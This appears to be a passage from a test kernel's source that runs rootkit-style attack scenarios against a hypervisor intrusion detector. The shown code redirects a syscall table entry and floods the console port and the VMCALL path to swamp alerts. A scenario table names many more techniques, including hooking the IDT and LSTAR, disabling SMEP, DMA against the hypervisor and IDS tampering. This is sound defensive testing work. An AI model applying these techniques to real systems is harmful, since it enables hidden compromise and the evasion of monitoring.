    sw_slot = (volatile syscall_fn *)(a + off + 8 * SYS_getpid);
    sw_hits = sw_tf = 0;
    trap_hook = sw_hook;
    struct catch c;
    if (CATCH(&c)) {
        *(volatile u64 *)(a + 0xffc) = 0x4141414141414141ul;
        catch_end(&c);
        kprintf("%s: the write across the pages did not fault\n", n);
    } else {
        fault_detail(n, "the write across the pages", &c);
    }
    trap_hook = 0;
    sw_slot = 0;
    bool hooked = syscall_table[SYS_getpid] == hook_sys_getpid;
    kprintf("%s: the #PF handler ran %lu times, TF %s in its frame; syscall_table[%d] %s\n", n, sw_hits,
            sw_tf ? "set" : "clear", SYS_getpid, hooked ? "redirected" : "unchanged");
    if (hooked)
        *(volatile syscall_fn *)(a + off + 8 * SYS_getpid) = orig;
    kunmap(a, 2 * 4096);
    attack_result(n, hooked);
    return sw_hits == 1;
}

/* ---- alert-flood: one attack, a million times -------------------------- */

/* Writes to the hypervisor's console port (COM1) a million times: each is
 * a reach for the hypervisor, which must neither drown its console in
 * alerts nor stall. Succeeded means a byte got out (read back from LSR). */
static bool sc_alert_flood(void)
{
    const char *n = "alert-flood";
    attack_begin(n);
    u64 t0 = rdtsc();
    for (u32 i = 0; i < 1000000; i++)
        outb(0x3f8, 'x');
    u64 t1 = rdtsc();
    kprintf("%s: 1000000 writes to port 0x3f8 in %lu cycles\n", n, t1 - t0);
    attack_result(n, inb(0x3fd) != 0xff);             /* could it even see the UART? */
    return true;
}

/* ---- alert-flood-distinct: N reaches for vigil, each an alert of its own - */

/* VMCALL at N distinct RIPs (flood=N on the command line, default 4096),
 * so that no two alerts share a key. One page of the kernel's text
 * (flood_page, rootkit.asm) holds 1365 VMCALLs (0f 01 c1) and a RET; its
 * frame is mapped read-only and executable at as many consecutive virtual
 * pages as N needs, past the kmap window. Each VMCALL
 * raises #UD (vigil refuses VMCALL; bare, the CPU is outside VMX
 * operation), and the #UD handler resumes after it. Succeeded means a
 * VMCALL returned without #UD: something answered it. */
extern const u8 flood_page[];
#define FLOOD_BASE (KMAP_BASE + KMAP_SLOTS * PAGE_SIZE)
#define FLOOD_PER_PAGE (PAGE_SIZE / 3)
#define FLOOD_MAX 10000000ul

static bool sc_alert_flood_distinct(void)
{
    const char *n = "alert-flood-distinct";
    char opt[24];
    u64 count = 4096;
    if (cmdline_get(bootinfo.cmdline, "flood", opt, sizeof opt) &&
        (!parse_u64(opt, strlen(opt), &count) || !count || count > FLOOD_MAX)) {
        kprintf("%s: flood=%s is not a count from 1 to %lu\n", n, opt, FLOOD_MAX);
        return false;
    }
    u64 page = kimage_virt_to_phys(flood_page);
    u64 npages = (count + FLOOD_PER_PAGE - 1) / FLOOD_PER_PAGE;
    for (u64 i = 0; i < npages; i++)
        if (!vm_map(kernel_pml4, FLOOD_BASE + i * PAGE_SIZE, page, PTE_G)) {
            kprintf("%s: out of memory for page tables\n", n);
            return false;
        }
    attack_begin(n);
    ud_skipped = 0;
    ud_skip_lo = FLOOD_BASE;
    ud_skip_hi = FLOOD_BASE + npages * PAGE_SIZE;
    u64 left = count, t0 = rdtsc();
    for (u64 i = 0; i < npages; i++) {
        u64 here = left < FLOOD_PER_PAGE ? left : FLOOD_PER_PAGE;
        /* The last page from where exactly `here` VMCALLs are left. */
        ((void (*)(void))(FLOOD_BASE + i * PAGE_SIZE + 3 * (FLOOD_PER_PAGE - here)))();
        left -= here;
    }
    u64 t1 = rdtsc();
    ud_skip_lo = ud_skip_hi = 0;
    for (u64 i = 0; i < npages; i++)
        vm_unmap(kernel_pml4, FLOOD_BASE + i * PAGE_SIZE);   /* (the page tables stay) */
    kprintf("%s: %lu VMCALLs at distinct RIPs in %lu cycles (%lu each), %lu of them #UD\n", n, count, t1 - t0,
            (t1 - t0) / count, ud_skipped);
    attack_result(n, ud_skipped != count);
    return true;
}

/* ---- selftest-fault: the exception report path ------------------------ */

static bool sc_selftest_fault(void)
{
    kprintf("selftest-fault: writing to an unmapped kernel address\n");
    *(volatile u64 *)0xffffffff7ff00000ul = 1;
    return false;
}

static const struct {
    const char *name;
    bool (*fn)(void);
} scenarios[] = {
    { "benign", sc_benign },
    { "bench", sc_bench },
    { "hide-process", sc_hide_process },
    { "patch-kernel-text", sc_patch_kernel_text },
    { "hook-syscall", sc_hook_syscall },
    { "hook-idt", sc_hook_idt },
    { "hook-lstar", sc_hook_lstar },
    { "disable-wp", sc_disable_wp },
    { "smep-off", sc_smep_off },
    { "wx-mapping", sc_wx_mapping },
    { "raw-io", sc_raw_io },
    { "signature", sc_signature },
    { "hv-probe", sc_hv_probe },
    { "ids-tamper", sc_ids_tamper },
    { "selftest-fault", sc_selftest_fault },
    { "alert-flood", sc_alert_flood },
    { "step-window", sc_step_window },
    { "emulated-store", sc_emulated_store },
    { "alert-flood-distinct", sc_alert_flood_distinct },
    { "hide-in-kernel-as", sc_hide_in_kernel_as },
    { "hide-in-boot-as", sc_hide_in_boot_as },
    { "hide-in-listed-as", sc_hide_in_listed_as },
    { "hide-lying-current", sc_hide_lying_current },
    { "hide-tick-phase", sc_hide_tick_phase },
    { "hide-sample-expiry", sc_hide_sample_expiry },
    { "rename-diskd", sc_rename_diskd },
    { "inject-diskd", sc_inject_diskd },
    { "rename-with-pid", sc_rename_with_pid },
    { "rename-with-pid-code", sc_rename_with_pid_code },
    { "wx-lower-half", sc_wx_lower_half },
    { "boot-tables-exec", sc_boot_tables_exec },
    { "wx-alias", sc_wx_alias },
    { "wx-flash", sc_wx_flash },
    { "wx-flood", sc_wx_flood },
    { "wx-user-grant", sc_wx_user_grant },
    { "wx-alias-late", sc_wx_alias_late },
    { "remap-text-pte", sc_remap_text_pte },
    { "remap-text-alias", sc_remap_text_alias },
    { "remap-wide-store", sc_remap_wide_store },
    { "remap-text-rw", sc_remap_text_rw },
    { "remap-table-pde", sc_remap_table_pde },
    { "remap-idt-pte", sc_remap_idt_pte },
    { "remap-idt-pml4", sc_remap_idt_pml4 },
    { "remap-own-pml4", sc_remap_own_pml4 },
    { "remap-gdt-pte", sc_remap_gdt_pte },
    { "remap-step-window", sc_remap_step_window },
    { "bench-ptwrite", sc_bench_ptwrite },
    { "dma-benign", sc_dma_benign },
    { "dma-kernel-text", sc_dma_kernel_text },
    { "dma-prd-chain", sc_dma_prd_chain },
    { "dma-hypervisor", sc_dma_hypervisor },
    { "dma-hypervisor-leak", sc_dma_hypervisor_leak },
    { "dma-prd-swap", sc_dma_prd_swap },
    { "dma-bus-master", sc_dma_bus_master },
    { "dma-bar-move", sc_dma_bar_move },
};

int scenario_main(u64 arg)
{
    (void)arg;
    char name[32] = "benign";
    cmdline_get(bootinfo.cmdline, "scenario", name, sizeof name);
    for (size_t i = 0; i < ARRAY_SIZE(scenarios); i++) {
        if (strcmp(scenarios[i].name, name))
            continue;
        kprintf("SCENARIO %s start\n", name);
        u64 t0 = ticks;
        bool ok = scenarios[i].fn();
        if (!ok)
            kprintf("testos: scenario %s did not complete its work\n", name);
        kprintf("testos: %d processes listed, %lu pages free, %lu ms\n", proc_count(),
                palloc_free_count(), ticks - t0);
        kprintf("SCENARIO %s done\n", name);
        power_off();
    }
    kprintf("testos: error: unknown scenario \"%s\"; known:", name);
    for (size_t i = 0; i < ARRAY_SIZE(scenarios); i++)
        kprintf(" %s", scenarios[i].name);
    kprintf("\n");
    power_off();
}
